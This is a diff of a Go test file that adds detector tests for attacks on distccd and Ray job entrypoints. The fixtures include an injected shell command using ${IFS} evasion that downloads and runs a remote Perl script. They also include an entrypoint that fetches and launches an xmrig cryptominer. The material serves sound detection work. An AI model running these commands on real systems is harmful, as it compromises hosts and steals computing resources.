@@ -62,3 +62,32 @@ func TestCluster(t *testing.T) {
 		}
 	}
 }
+
+func TestWhoWasConnected(t *testing.T) {
+	got := detecttest.Run(t, orders.New(), detecttest.Scene(), `02:00:00 log-line service.name=distccd process.pid=9 message="(dcc_check_client) connection from 203.0.113.5:41022"
+02:00:01 log-line service.name=distccd process.pid=9 message="sh -c cd${IFS}/tmp;wget${IFS}203.0.113.66/d.pl;perl${IFS}d.pl main.c on localhost completed ok"
+02:00:02 log-line service.name=distccd process.pid=10 message="gcc -c main.c on localhost completed ok"
+`)
+	if len(got) != 1 || got[0].Source != "203.0.113.5" {
+		t.Errorf("%+v", got)
+	}
+}
+
+func TestJobs(t *testing.T) {
+	for message, count := range map[string]int{
+		`entrypoint: wget http://203.0.113.66/x.tar.gz && tar xf x.tar.gz && ./xmrig -o pool.example.com:1123 -u z`: 1,
+		`entrypoint: python train.py --data s3://bucket`:                                                            0,
+		`entrypoint: wget https://data.example.org/set.tar.gz && tar xf set.tar.gz && python train.py`:              0,
+	} {
+		got := detecttest.Run(t, orders.New(), detecttest.Scene(), "02:00:00 program-said service.name=ray message="+quote(message)+"\n")
+		n := 0
+		for _, r := range got {
+			if r.Mechanism == "job" {
+				n++
+			}
+		}
+		if n != count {
+			t.Errorf("%s: %+v", message, got)
+		}
+	}
+}
